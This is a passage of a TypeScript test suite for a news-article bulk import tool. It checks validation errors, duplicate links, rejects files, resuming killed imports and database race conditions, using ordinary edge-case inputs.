    expect(new Set([...bad.values()].map((kind) => `${kind.path.join('.')}:${kind.code}`)).size).toBe(BAD_KINDS.length);

    const first = await outcomesOf(file);
    expect(first.map((o) => o.line)).toEqual(Array.from({ length: 1000 }, (_, i) => i + 1));
    expect(tally(first)).toEqual({ created: 970, rejected: 30 });
    for (const outcome of first) {
      const kind = bad.get(outcome.line);
      if (!kind) continue;
      expect(outcome.status, `line ${outcome.line}`).toBe('rejected');
      if (outcome.status !== 'rejected') continue;
      expect(outcome.errors[0], `line ${outcome.line}`).toMatchObject({ path: kind.path, code: kind.code });
    }
    const articles = await prisma.article.count({ where: { url: { startsWith: 'https://import.example/thousand/' } } });
    expect(articles).toBe(970);
    const revisions = await prisma.articleRevision.count();
    const versions = await prisma.article.aggregate({ _sum: { version: true } });

    const second = await outcomesOf(file);
    expect(tally(second)).toEqual({ unchanged: 970, rejected: 30 });
    expect(await prisma.articleRevision.count()).toBe(revisions);
    expect((await prisma.article.aggregate({ _sum: { version: true } }))._sum.version).toBe(versions._sum.version);
  });

  it('lists every field error of a record at once, each once, whichever field did not convert', async () => {
    const base = { title: 'Every error', source: 'Errors Wire', publishedAt: '2026-01-01T00:00:00Z', priority: 2 };
    const records = [
      // a date that does not parse, beside a priority out of range and a flag of the wrong type
      { ...base, url: 'https://every-error.example/1', publishedAt: 'yesterday', priority: 9, isAustralian: 'yes' },
      // a null where a value is required: one REQUIRED, not two
      { ...base, url: 'https://every-error.example/2', priority: null },
      // a field that does not convert is not also REQUIRED; the link's own error still shows
      { ...base, url: 'not a link', publishedAt: 7, title: '' },
    ];
    const out: ImportOutcome[] = [];
    const source = readRecords(Readable.from(records.map((record) => ndjsonLine(record))), 'ndjson');
    for await (const outcome of importRecords(prisma, source, importer)) out.push(outcome);
    const found = out.map((outcome) =>
      outcome.status === 'rejected' ? outcome.errors.map((error) => `${error.path.join('.')} ${error.code}`) : [],
    );
    expect(found).toEqual([
      ['publishedAt INVALID_DATE', 'isAustralian INVALID_TYPE', 'priority OUT_OF_RANGE'],
      ['priority REQUIRED'],
      ['publishedAt INVALID_DATE', 'url INVALID_URL', 'title REQUIRED'],
    ]);
  });

  it('rejects a record the database refuses to store, filing the rest of its batch, so that the import goes on', async () => {
    // a record our checks let through but the database refuses (as a body whose search vector
    // passed 1 MB once was), stood in for by a trigger
    await whileRefusingTitles('Refused%', async () => {
      const lines = Array.from({ length: 7 }, (_, i) =>
        JSON.stringify({
          title: `${i === 2 || i === 5 ? 'Refused' : 'Stored'} ${i}`,
          url: `https://refused.example/${i}`,
          source: 'Refusals',
          publishedAt: '2025-04-04T00:00:00Z',
          priority: 2,
        }),
      );
      const outcomes: ImportOutcome[] = [];
      const source = readRecords(Readable.from(lines.map((line) => `${line}\n`)), 'ndjson');
      for await (const outcome of importRecords(prisma, source, importer, { batchSize: 7 })) outcomes.push(outcome);
      expect(
        outcomes.map((o) => (o.status === 'rejected' ? `${o.line}:${o.errors[0]!.code}` : `${o.line}:${o.status}`)),
      ).toEqual([
        '1:created',
        '2:created',
        '3:STORE_REFUSED',
        '4:created',
        '5:created',
        '6:STORE_REFUSED',
        '7:created',
      ]);
      expect(await prisma.article.count({ where: { url: { startsWith: 'https://refused.example/' } } })).toBe(5);
    });
  });

  it('refuses a record whose link is in the trash, naming the trashed article', async () => {
    const file = path.join(work, 'trash.ndjson');
    await writeImportFile(file, { count: 2, seed: 'trash' });
    const [created] = await outcomesOf(file);
    if (created?.status !== 'created') throw new Error('not created');
    await deleteArticle(prisma, { id: { id: created.id } }, importer);
    const again = await outcomesOf(file);
    expect(again[0]).toEqual({
      line: 1,
      status: 'rejected',
      record: expect.objectContaining({ url: 'https://import.example/trash/1' }),
      errors: [
        {
          path: ['url'],
          code: 'ARTICLE_IN_TRASH',
          message: expect.any(String),
          trashedId: Buffer.from(`Article:${created.id}`).toString('base64'),
        },
      ],
    });
    expect(again[1]).toMatchObject({ status: 'unchanged' });
  });

  it('stores every character and instant of a record exactly as upsertArticle stores it', async () => {
    // what the batch statements carry as one JSON value or array literal each (db/arrays.ts)
    const text = "Quote \" back\\slash \\u0041 {braces,commas} 'single' tab\tnew\nline 🦘 e\u0301 שלום NULL";
    const fields = {
      title: `Bulk ${text}`,
      source: `Source ${text}`,
      publishedAt: '2025-05-05T11:02:03.456+10:00',
      priority: 5,
      isAustralian: true,
      description: `Description ${text}`,
      summary: `Summary ${text}`,
      body: `Body ${text} `.repeat(50),
      authors: ['Zoë "Q" Back\\slash', 'Ａｎｎ Wide'],
      topics: ['Topic {x,y}'],
    };
    const file = path.join(work, 'characters.ndjson');
    fs.writeFileSync(file, `${JSON.stringify({ ...fields, url: 'https://chars.example/bulk' })}\n`);
    const [outcome] = await outcomesOf(file);
    if (outcome?.status !== 'created') throw new Error(`not created: ${JSON.stringify(outcome)}`);
    const single = await upsertArticle(
      prisma,
      {
        ...fields,
        url: 'https://chars.example/single',
        publishedAt: new Date(fields.publishedAt),
        authors: fields.authors.map((name) => ({ name })),
        topics: fields.topics.map((name) => ({ name })),
      },
      importer,
    );
    const stored = (id: number) =>
      prisma.article.findUniqueOrThrow({
        where: { id },
        select: {
          title: true,
          source: true,
          publishedAt: true,
          priority: true,
          isAustralian: true,
          description: true,
          summary: true,
          body: true,
          authors: { orderBy: { position: 'asc' }, select: { authorId: true } },
          topics: { select: { topicId: true } },
        },
      });
    const bulk = await stored(outcome.id);
    expect(bulk).toEqual(await stored(single.id));
    expect(bulk.publishedAt.toISOString()).toBe('2025-05-05T01:02:03.456Z');
    // the API keeps text in NFC (e + combining acute is é): nothing else changes
    expect(bulk.description).toBe(`Description ${text.normalize('NFC')}`);
  });

  it('files the first record of a link and refuses its later spellings, and refuses records too deep to handle, so a second run changes nothing', async () => {
    const file = path.join(work, 'dupes.ndjson');
    const base = { source: 'Dupes', publishedAt: '2025-05-05T00:00:00Z', priority: 2 };
    // nested deeper than JSON.stringify can write back (and than the API's input boundary allows)
    const deep = `${'['.repeat(5_000)}"x"${']'.repeat(5_000)}`;
    fs.writeFileSync(
      file,
      [
        JSON.stringify({ ...base, title: 'First', url: 'https://dupes.example/a' }),
        JSON.stringify({ ...base, title: 'Second', url: 'HTTPS://Dupes.EXAMPLE/a/?utm_source=x#f' }),
        `{"title":${deep},"url":"https://dupes.example/deep"}`,
        JSON.stringify({ ...base, title: 'Third', url: 'https://dupes.example/a/' }),
        JSON.stringify({ ...base, title: 'Other', url: 'https://dupes.example/b' }),
        // a link whose first record is refused: the next valid one is the link's first
        JSON.stringify({ ...base, url: 'https://dupes.example/c' }),
        JSON.stringify({ ...base, title: 'C fixed', url: 'https://dupes.example/c/' }),
      ].join('\n'),
    );
    const first = await outcomesOf(file);
    expect(first.map((o) => [o.line, o.status, o.status === 'rejected' ? o.errors[0]!.code : null])).toEqual([
      [1, 'created', null],
      [2, 'rejected', 'DUPLICATE_IN_FILE'],
      [3, 'rejected', 'TOO_DEEP'],
      [4, 'rejected', 'DUPLICATE_IN_FILE'],
      [5, 'created', null],
      [6, 'rejected', 'REQUIRED'],
      [7, 'created', null],
    ]);
    expect(first[1]).toMatchObject({ errors: [{ path: ['url'], firstLine: 1 }] });
    const revisions = await prisma.articleRevision.count();
    const second = await outcomesOf(file);
    expect(second.map((o) => o.status)).toEqual([
      'unchanged',
      'rejected',
      'rejected',
      'rejected',
      'unchanged',
      'rejected',
      'unchanged',
    ]);
    expect(await prisma.articleRevision.count()).toBe(revisions);
    expect((await prisma.article.findUniqueOrThrow({ where: { urlKey: 'https://dupes.example/a' } })).title).toBe(
      'First',
    );
  });

  it('reads CSV with a column map and defaults, and RSS, through the command, with a rejects file and a summary', async () => {
    const env = await emptyDatabase({ migrated: true });
    const csv = path.join(work, 'sheet.csv');
    fs.writeFileSync(
      csv,
      [
        'headline,url,source,publishedAt,authors,topics',
        'First from a sheet,https://sheet.example/1,Sheet Times,2025-01-01T00:00:00Z,Ann One|Bob Two,Budget',
        '"Second, with a comma",https://sheet.example/2,Sheet Times,2025-01-02T00:00:00Z,,',
        'No date,https://sheet.example/3,Sheet Times,,,',
      ].join('\r\n'),
    );
    const run = await command('import', [csv, '--map', 'title=headline', '--set', 'priority=3'], env);
    expect(run.stdout.trim().split('\n').at(-1)).toBe('created 2, updated 0, unchanged 0, rejected 1');
    expect(run.code).toBe(3);
    const rejects = fs
      .readFileSync(`${csv}.rejects.ndjson`, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(rejects).toEqual([
      {
        line: 4,
        record: { title: 'No date', url: 'https://sheet.example/3', source: 'Sheet Times' },
        errors: [{ path: ['publishedAt'], code: 'REQUIRED', message: expect.any(String) }],
      },
    ]);

    const rss = path.join(work, 'feed.rss');
    fs.writeFileSync(
      rss,
      `<?xml version="1.0"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Feed Weekly</title>
<item><title>From a feed &amp; more</title><link>https://feed.example/1</link>
<pubDate>Tue, 07 Jan 2025 10:00:00 GMT</pubDate><dc:creator>Cleo Three</dc:creator><category>Budget</category></item>
</channel></rss>`,
    );
    const fed = await command('import', [rss, '--set', 'priority=2'], env);
    expect(fed.stdout.trim()).toBe('created 1, updated 0, unchanged 0, rejected 0');
    expect(fed.code).toBe(0);
    expect(fs.existsSync(`${rss}.rejects.ndjson`)).toBe(false);

    const exported = await command('export', ['--filter', '{"NOT":{"source":{"equals":"Feed Weekly"}}}'], env);
    expect(exported.code).toBe(0);
    const records = exported.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(records.map((r) => [r.title, r.authors, r.topics, r.priority])).toEqual([
      ['First from a sheet', ['Ann One', 'Bob Two'], ['Budget'], 3],
      ['Second, with a comma', [], [], 3],
    ]);
    expect(
      (await command('export', [], env)).stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line).title),
    ).toEqual(['First from a sheet', 'Second, with a comma', 'From a feed & more']);
    // an --out that cannot be written: one line, and never exit 0 (nor a wait for ever)
    for (const [out, code, said] of [
      ['/dev/full', 1, /^newsgraph: writing --out \/dev\/full failed: ENOSPC/],
      [work, 2, /^newsgraph: cannot write --out .*: EISDIR/],
      [path.join(work, 'missing', 'x.ndjson'), 2, /^newsgraph: cannot write --out .*: ENOENT/],
    ] as const) {
      const failed = await command('export', ['--out', out], env);
      expect([failed.code, failed.stderr.split('\n').filter((line) => !line.startsWith('{'))], out).toEqual([
        code,
        [expect.stringMatching(said), ''],
      ]);
    }
  });

  it('imports a link in two files of one command once, and never empties an input as a rejects file', async () => {
    const env = await emptyDatabase({ migrated: true });
    // a link in two files of one command is imported once, from the first
    const one = path.join(work, 'one.ndjson');
    const two = path.join(work, 'two.ndjson');
    const shared = { source: 'Two Files', publishedAt: '2025-01-03T00:00:00Z', priority: 1 };
    fs.writeFileSync(one, `${JSON.stringify({ ...shared, title: 'In one', url: 'https://two.example/x' })}\n`);
    fs.writeFileSync(two, `${JSON.stringify({ ...shared, title: 'In two', url: 'https://TWO.example/x/' })}\n`);
    const both = await command('import', [one, two], env);
    expect(both.stdout.trim().split('\n').at(-1)).toBe('created 1, updated 0, unchanged 0, rejected 1');
    expect(JSON.parse(fs.readFileSync(`${two}.rejects.ndjson`, 'utf8'))).toMatchObject({
      file: two,
      line: 1,
      errors: [{ code: 'DUPLICATE_IN_FILE', firstLine: 1, firstFile: one }],
    });
    expect((await command('import', [one, two], env)).stdout.trim().split('\n').at(-1)).toBe(
      'created 0, updated 0, unchanged 1, rejected 1',
    );
    const same = await command('import', [one, one], env);
    expect(same.code).toBe(2);
    // an input is never emptied as a rejects file: named so, or being another input's default
    const kept = fs.readFileSync(one, 'utf8');
    const linked = path.join(work, 'linked.ndjson');
    fs.symlinkSync(one, linked);
    fs.copyFileSync(two, `${one}.rejects.ndjson`);
    for (const args of [
      ['--rejects', one, one],
      [one, linked],
      [one, `${one}.rejects.ndjson`],
    ]) {
      const refused = await command('import', args, env);
      expect(refused.code, args.join(' ')).toBe(2);
      expect(fs.readFileSync(one, 'utf8')).toBe(kept);
      expect(fs.readFileSync(`${one}.rejects.ndjson`, 'utf8')).toBe(fs.readFileSync(two, 'utf8'));
    }
  });

  it('refuses a rejects file that cannot keep what is written, and defaults no record could have, before filing', async () => {
    const env = await emptyDatabase({ migrated: true });
    const shared = { source: 'Two Files', publishedAt: '2025-01-03T00:00:00Z', priority: 1 };
    const one = path.join(work, 'defaults.ndjson');
    fs.writeFileSync(one, `${JSON.stringify({ ...shared, title: 'Defaults', url: 'https://two.example/defaults' })}\n`);
    // fsync fails on a /proc file
    const unkept = await command('import', [one, '--rejects', '/proc/self/status'], env);
    expect(unkept.code).toBe(2);
    expect(unkept.stderr).toMatch(
      /^Cannot write the rejects file \/proc\/self\/status: EINVAL.*; give --rejects another FILE\./,
    );
    expect((await command('import', [one], env)).stdout.trim().split('\n').at(-1)).toBe(
      'created 1, updated 0, unchanged 0, rejected 0',
    );
    const refusedAs = await command('import', [one, '--as', ' '], env);
    expect(refusedAs.code).toBe(2);
    // a default no record could have stops the command before any record is read
    for (const [set, said] of [
      [['nope=1'], '--set nope: Not a field of CreateArticleInput (UNKNOWN_FIELD)'],
      [['priority=abc'], '--set priority: Must be a number (INVALID_TYPE)'],
      [['priority=9'], '--set priority: Must be an integer from 1 to 5 (OUT_OF_RANGE)'],
      [['title= '], '--set title: Must contain a visible character (REQUIRED)'],
      [['priority=3', 'priority=4'], '--set names priority twice'],
    ] as const) {
      const refused = await command('import', [one, ...set.flatMap((item) => ['--set', item])], env);
      expect([refused.code, refused.stderr.split('\n')[0]], set.join(' ')).toEqual([2, said]);
    }
  });

  it('refuses numbers out of range as OUT_OF_RANGE in every format, and writes them in the rejects file', async () => {
    const env = await emptyDatabase({ migrated: true });
    const csv = path.join(work, 'numbers.csv');
    const row = (n: number, priority: string) =>
      `Number ${n},https://numbers.example/${n},Numbers,2025-01-01T00:00:00Z,${priority}`;
    const priorities = ['2.5', '99999999999999999999', '1e400', '-1', '0', ' 4 '];
    fs.writeFileSync(
      csv,
      ['title,url,source,publishedAt,priority', ...priorities.map((p, index) => row(index + 1, p))].join('\n'),
    );
    const run = await command('import', [csv], env);
    expect(run.stdout.trim().split('\n').at(-1)).toBe('created 1, updated 0, unchanged 0, rejected 5');
    const rejects = (file: string) =>
      fs
        .readFileSync(file, 'utf8')
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { line: number; record: Record<string, unknown>; errors: RecordError[] });
    const fromCsv = rejects(`${csv}.rejects.ndjson`);
    expect(fromCsv.map((r) => [r.line, r.record.priority, r.errors.map((e) => [e.path, e.code])])).toEqual([
      [2, 2.5, [[['priority'], 'OUT_OF_RANGE']]],
      [3, 1e20, [[['priority'], 'OUT_OF_RANGE']]],
      [4, 'Infinity', [[['priority'], 'OUT_OF_RANGE']]],
      [5, -1, [[['priority'], 'OUT_OF_RANGE']]],
      [6, 0, [[['priority'], 'OUT_OF_RANGE']]],
    ]);
    // JSON reads those numbers the same way; 1e400 is not written as null
    const ndjson = path.join(work, 'numbers.ndjson');
    const base = { source: 'Numbers', publishedAt: '2025-01-01T00:00:00Z' };
    fs.writeFileSync(
      ndjson,
      [
        `{"title":"J1","url":"https://numbers.example/j1","source":"Numbers","publishedAt":"2025-01-01T00:00:00Z","priority":1e400}`,
        JSON.stringify({ ...base, title: 'J2', url: 'https://numbers.example/j2', priority: 3.5 }),
        `{"title":-1e400,"url":"https://numbers.example/j3","source":"Numbers","publishedAt":"2025-01-01T00:00:00Z","priority":2}`,
      ].join('\n'),
    );
    const json = await command('import', [ndjson], env);
    expect(json.stdout.trim().split('\n').at(-1)).toBe('created 0, updated 0, unchanged 0, rejected 3');
    expect(
      rejects(`${ndjson}.rejects.ndjson`).map((r) => [r.record.title, r.record.priority, r.errors[0]!.code]),
    ).toEqual([
      ['J1', 'Infinity', 'OUT_OF_RANGE'],
      ['J2', 3.5, 'OUT_OF_RANGE'],
      ['-Infinity', 2, 'INVALID_TYPE'],
    ]);
  });

  it('refuses to start while another import writes the same rejects file, having done nothing', async () => {
    const env = await emptyDatabase({ migrated: true });
    const file = path.join(work, 'claimed.ndjson');
    fs.writeFileSync(
      file,
      ndjsonLine({
        title: 'Held',
        url: 'https://held.example/1',
        source: 'Held',
        publishedAt: '2025-01-01T00:00:00Z',
        priority: 2,
      }),
    );
    // the lock a running import of the file holds
    const fd = fs.openSync(`${file}.rejects.ndjson`, 'a');
    expect(tryLock(fd)).toBe(true);
    try {
      const refused = await command('import', [file], env);
      expect(refused.code).toBe(1);
      expect(refused.stderr).toContain(`another import is writing ${file}.rejects.ndjson`);
      expect(refused.stdout).toBe('');
    } finally {
      fs.closeSync(fd);
    }
    const filed = await command('import', [file], env);
    expect(filed.stdout.trim()).toBe('created 1, updated 0, unchanged 0, rejected 0');
    expect(fs.existsSync(`${file}.rejects.ndjson`)).toBe(false);
  });

  it('resumes a killed import where it stopped, without duplicates, and reports the whole file', async () => {
    const env = await emptyDatabase({ migrated: true });
    const file = path.join(work, 'killed.ndjson');
    // the embedded database files fewer a second: a smaller file keeps the test short there
    const [count, bads] = serverUrl ? [1000, 30] : [300, 15];
    const bad = await writeImportFile(file, { count, bad: bads, seed: 'killed' });
    const state = () =>
      path.join(
        work,
        fs.readdirSync(work).find((name) => name.startsWith('killed.ndjson.') && name.endsWith('.import-state.json')) ??
          'none',
      );
    // small batches: many transactions, so that the kill lands in the middle
    const killed = await command('import', [file, '--batch', '10'], env, {
      killWhen: () => {
        try {
          return (JSON.parse(fs.readFileSync(state(), 'utf8')) as { line: number }).line >= count / 6;
        } catch {
          return false;
        }
      },
    });
    expect(killed.code).toBe(null);
    expect(fs.existsSync(state())).toBe(true);
    // the saved position is this database's: into another one, the same file starts from its first line
    const states = () =>
      fs.readdirSync(work).filter((name) => name.startsWith('killed.ndjson.') && name.endsWith('.import-state.json'));
    expect(states()).toHaveLength(1);
    const elsewhere = await emptyDatabase({ migrated: true });
    // (its rejects elsewhere too: rewriting this run's rejects file would void its position)
    const other = await command('import', [file, '--rejects', path.join(work, 'elsewhere.rejects.ndjson')], elsewhere);
    expect(other.stderr).not.toMatch(/going on after/);
    expect(other.stdout.trim().split('\n').at(-1)).toBe(
      `created ${count - bads}, updated 0, unchanged 0, rejected ${bads}`,
    );
    expect(states()).toHaveLength(1);
    const resumed = await command('import', [file], env);
    expect(resumed.stderr).toMatch(/going on after line \d+/);
    const summary = resumed.stdout.trim().split('\n').at(-1)!;
    const [created, updated, unchanged, rejected] = summary.match(/\d+/g)!.map(Number);
    expect(created! + unchanged!).toBe(count - bads);
    expect(updated).toBe(0);
    expect(rejected).toBe(bads);
    expect(unchanged).toBeLessThan(count / 5);
    expect(fs.existsSync(state())).toBe(false);
    const rejects = fs
      .readFileSync(`${file}.rejects.ndjson`, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(rejects.map((r) => r.line)).toEqual([...badLines(count, bads).keys()]);
    expect(rejects.map((r) => r.errors[0].code)).toEqual([...bad.values()].map((kind) => kind.code));

    const exported = await command('export', [], env);
    const urls = exported.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).url as string);
    expect(urls).toHaveLength(count - bads);
    expect(new Set(urls).size).toBe(count - bads);
  });
});

describe(`import races (${serverUrl ? 'PostgreSQL server' : 'PGlite'})`, () => {
  it.skipIf(!serverUrl)(
    'answers POST /import.ndjson 503 only while nothing is filed, then files nothing; once a batch is filed, answers every record however late',
    async () => {
      const server = await startServer({ REQUEST_TIMEOUT_MS: '1500' });
      const admin = new pg.Client({ connectionString: process.env.DATABASE_URL });
      await admin.connect();
      const record = (group: string, i: number, authors?: string[]) => ({
        title: `Deadline ${group} ${i}`,
        url: `https://deadline.example/${group}/${i}`,
        source: 'Deadline',
        publishedAt: '2025-06-06T06:06:06Z',
        priority: 2,
        ...(authors && { authors }),
      });
      const post = (records: object[]) =>
        postImport(server.url, records.map((r) => ndjsonLine(r as Record<string, unknown>)).join(''), as.editor);
      const filed = (group: string) =>
        prisma.article.count({ where: { url: { startsWith: `https://deadline.example/${group}/` } } });
      const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
      try {
        // every record names an author, and the authors are locked past the deadline
        await admin.query('BEGIN');
        await admin.query('LOCK TABLE "Author" IN ACCESS EXCLUSIVE MODE');
        const timedOut = await post(Array.from({ length: 5 }, (_, i) => record('none', i, ['Deadline Writer'])));
        expect(timedOut.status).toBe(503);
        expect(JSON.parse(timedOut.text).errors[0].extensions.code).toBe('REQUEST_TIMEOUT');
        // answered 503, the batch stops waiting at once (cancelled), instead of holding its
        // connection and locks until its own lock timeout
        const waiting = async () => {
          await admin.query('SELECT pg_stat_clear_snapshot()');
          const { rows } = await admin.query(
            `SELECT count(*)::int AS n FROM pg_stat_activity
             WHERE datname = current_database() AND wait_event_type = 'Lock' AND pid <> pg_backend_pid()`,
          );
          return rows[0].n as number;
        };
        for (let i = 0; i < 100 && (await waiting()) > 0; i++) await sleep(20);
        expect(await waiting()).toBe(0);
        await admin.query('ROLLBACK');
        await sleep(1_500);
        expect(await filed('none')).toBe(0);

        // a first batch (200 records) filed at once, the second held past the deadline
        await admin.query('BEGIN');
        await admin.query('LOCK TABLE "Author" IN ACCESS EXCLUSIVE MODE');
        const records = [
          ...Array.from({ length: 200 }, (_, i) => record('late', i)),
          ...Array.from({ length: 5 }, (_, i) => record('late', 200 + i, ['Deadline Writer'])),
        ];
        const late = post(records);
        for (let i = 0; i < 1_000 && (await filed('late')) < 200; i++) await sleep(10);
        expect(await filed('late')).toBe(200);
        await sleep(2_000);
        await admin.query('ROLLBACK');
        const answer = await late;
        expect(answer.status).toBe(200);
        const lines = answer.text.trim().split('\n');
        expect(JSON.parse(lines.at(-1)!)).toEqual({ summary: { created: 205, updated: 0, unchanged: 0, rejected: 0 } });
        expect(await filed('late')).toBe(205);
        expect(server.output()).not.toMatch(/ERR_|Unhandled|"level":50/);
      } finally {
        await admin.query('ROLLBACK').catch(() => {});
        await admin.end();
        await server.stop();
      }
    },
  );

  it.skipIf(!serverUrl)(
    'answers a database failure part-way through /import.ndjson with what was filed before it',
    async () => {
      const server = await startServer({});
      const admin = new pg.Client({ connectionString: process.env.DATABASE_URL });
      await admin.connect();
      const record = (i: number, authors?: string[]) => ({
        title: `Part way ${i}`,
        url: `https://partway.example/${i}`,
        source: 'Part Way',
        publishedAt: '2025-06-07T06:06:06Z',
        priority: 2,
        ...(authors && { authors }),
      });
      const body = [
        ...Array.from({ length: 200 }, (_, i) => record(i)),
        ...Array.from({ length: 5 }, (_, i) => record(200 + i, ['Part Way Writer'])),
      ]
        .map((r) => ndjsonLine(r))
        .join('');
      const filed = () => prisma.article.count({ where: { url: { startsWith: 'https://partway.example/' } } });
      const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
      try {
        // the first batch files; the second waits for the authors, and its connection is lost
        await admin.query('BEGIN');
        await admin.query('LOCK TABLE "Author" IN ACCESS EXCLUSIVE MODE');
        const answer = postImport(server.url, body, as.editor);
        for (let i = 0; i < 1_000 && (await filed()) < 200; i++) await sleep(10);
        expect(await filed()).toBe(200);
        let victim: number | undefined;
        for (let i = 0; i < 200 && victim === undefined; i++) {
          await sleep(25);
          await admin.query('SELECT pg_stat_clear_snapshot()');
          const { rows } = await admin.query(
            `SELECT pid FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock' AND pid <> pg_backend_pid()`,
          );
          victim = rows[0]?.pid;
        }
        expect(victim).toBeDefined();
        await admin.query('SELECT pg_terminate_backend($1)', [victim]);
        await admin.query('ROLLBACK');
        const { status, text } = await answer;
        expect(status, text).toBe(503);
        const error = JSON.parse(text).errors[0];
        expect(error.extensions).toMatchObject({ code: 'DATABASE_UNAVAILABLE', reason: 'connection lost' });
        expect(error.extensions.filed.created).toBeGreaterThanOrEqual(200);
        expect(error.message).toContain('send the file again');
        expect(await filed()).toBe(200);
      } finally {
        await admin.query('ROLLBACK').catch(() => {});
        await admin.end();
        await server.stop();
      }
    },
  );

  it.skipIf(!serverUrl)(
    'numbers the articles of batches filed at once in file order, whichever batch inserts first',
    async () => {
      // ten records of one instant in batches of five; the first batch, whose records name an
      // author, is held at its first read of the authors (locked here) until the second has committed
      const publishedAt = '2025-05-05T05:05:05.000Z';
      const records = Array.from({ length: 10 }, (_, i) => ({
        title: `Numbered ${i}`,
        url: `https://numbered.example/${String.fromCharCode(106 - i)}`,
        source: 'Numbered',
        publishedAt,
        priority: 2,
        ...(i < 5 && { authors: ['Numbered Writer'] }),
      }));
      const admin = new pg.Client({ connectionString: process.env.DATABASE_URL });
      await admin.connect();
      try {
        await admin.query('BEGIN');
        await admin.query('LOCK TABLE "Author" IN ACCESS EXCLUSIVE MODE');
        const outcomes: ImportOutcome[] = [];
        const source = readRecords(Readable.from([records.map(ndjsonLine).join('')]), 'ndjson');
        const done = (async () => {
          for await (const outcome of importRecords(prisma, source, importer, { batchSize: 5 })) outcomes.push(outcome);
        })();
        const second = records.slice(5).map((r) => r.url);
        for (let i = 0; i < 2_000 && (await prisma.article.count({ where: { url: { in: second } } })) < 5; i++) {
          await new Promise((resolve) => setTimeout(resolve, 5));
        }
        expect(await prisma.article.count({ where: { url: { in: second } } })).toBe(5);
        await admin.query('ROLLBACK');
        await done;
        expect(outcomes.map((o) => o.status)).toEqual(records.map(() => 'created'));
        const ids = outcomes.map((o) => (o as { id: number }).id);
        expect(ids).toEqual([...ids].sort((a, b) => a - b));
        // and so the list of that instant, newest id first, is the file's order reversed
        const listed = await prisma.article.findMany({
          where: { publishedAt: new Date(publishedAt) },
          orderBy: [{ publishedAt: 'desc' }, { id: 'desc' }],
          select: { url: true },
        });
        expect(listed.map((a) => a.url)).toEqual(records.map((r) => r.url).reverse());
      } finally {
        await admin.end();
      }
    },
  );

  it('puts every record in the story its `story` names, and keeps the first lead, whatever batch filed that story', async () => {
    // stories of three records in file order, the later two naming the first: with batches of two
    // (two in flight on a PostgreSQL server) most stories cross a batch boundary
    const stories = serverUrl ? 40 : 10;
    const lines: string[] = [];
    for (let i = 0; i < stories; i++) {
      const body = Array.from({ length: 60 }, (_, w) => `crossing${i}w${(w * 7) % 13}x${w}`).join(' ');
      for (let copy = 0; copy < 3; copy++) {
        lines.push(
          ndjsonLine({
            title: `Crossing ${i}.${copy}`,
            url: `https://crossing.example/${i}/${copy}`,
            source: `Paper ${copy}`,
            publishedAt: new Date(Date.UTC(2024, 0, 1 + i, copy)).toISOString(),
            priority: 2,
            // each copy its own text, so only `story` puts them together
            body: copy === 0 ? body : `${copy} ${'other words '.repeat(20)}${i}`,
            story: `https://crossing.example/${i}/0`,
            storyLead: copy > 0,
          }),
        );
      }
    }
    const file = path.join(work, 'crossing.ndjson');
    fs.writeFileSync(file, lines.join(''));
    const source = readRecords(fs.createReadStream(file), 'ndjson');
    const outcomes: ImportOutcome[] = [];
    for await (const outcome of importRecords(prisma, source, importer, { batchSize: 2 })) outcomes.push(outcome);
    expect(tally(outcomes)).toEqual({ created: stories * 3 });
    for (let i = 0; i < stories; i++) {
      const rows = await prisma.article.findMany({
        where: { url: { startsWith: `https://crossing.example/${i}/` } },
        orderBy: { url: 'asc' },
        select: { id: true, storyId: true },
      });
      expect(new Set(rows.map((row) => row.storyId)).size, `story ${i}`).toBe(1);
      const story = await prisma.story.findUniqueOrThrow({ where: { id: rows[0]!.storyId } });
      expect(story, `story ${i}`).toMatchObject({ leadId: rows[1]!.id, leadChosen: true });
    }
  });

  it('files each link once and each name once when two imports of one file race API writes naming the same people', async () => {
    const file = path.join(work, 'race.ndjson');
    const count = serverUrl ? 600 : 150;
    await writeImportFile(file, { count, seed: 'race' });
    const api = async () => {
      for (let i = 1; i <= 30; i++) {
        // the same links and the import's names in other spellings, through the API
        const result = await yoga.fetch('http://newsgraph.test/graphql', {
          method: 'POST',
          headers: { ...as.editor, 'content-type': 'application/json' },
          body: JSON.stringify({
            query: `mutation($input: CreateArticleInput!) { upsertArticle(input: $input) { __typename } }`,
            variables: {
              input: {
                title: `API copy ${i}`,
                url: `HTTPS://IMPORT.EXAMPLE/race/${((i * 7) % count) + 1}/`,
                source: 'API',
                publishedAt: '2025-01-01T00:00:00Z',
                priority: 1,
                authors: [{ name: `IMPORT AUTHOR ${(i * 7 * 7) % 2000}` }, { name: `import author ${i}` }],
              },
            },
          }),
        });
        expect(result.status).toBe(200);
        const body = (await result.json()) as { data?: { upsertArticle: { __typename: string } } };
        expect(body.data?.upsertArticle.__typename).toBe('UpsertArticleSuccess');
      }
    };
    const [first, second] = await Promise.all([outcomesOf(file), outcomesOf(file), api()]);
    expect(first!.filter((o) => o.status === 'rejected')).toEqual([]);
    expect(second!.filter((o) => o.status === 'rejected')).toEqual([]);
    // every line created once, by one of the two (or by the API first: then updated by both or unchanged)
    const created = [...first!, ...second!].filter((o) => o.status === 'created').length;
    expect(created).toBeLessThanOrEqual(count);
    expect(created).toBeGreaterThanOrEqual(count - 30);
    const links = await prisma.$queryRaw<{ urlKey: string; n: number }[]>`
      SELECT "urlKey", count(*)::int AS n FROM "Article" WHERE "urlKey" LIKE 'https://import.example/race/%' GROUP BY 1`;
    expect(links).toHaveLength(count);
    expect(links.every((row) => row.n === 1)).toBe(true);
    // one author per name in any spelling, and every count true to its bylines
    const drift = await prisma.$queryRaw<{ id: number }[]>`
      SELECT a."id" FROM "Author" a
      WHERE a."articleCount" <> (SELECT count(*) FROM "ArticleAuthor" j WHERE j."authorId" = a."id")`;
    expect(drift).toEqual([]);
    const spellings = await prisma.$queryRaw<{ key: string }[]>`
      SELECT lower("name") AS key FROM "Author" WHERE "name" ILIKE 'import author %' GROUP BY 1 HAVING count(*) > 1`;
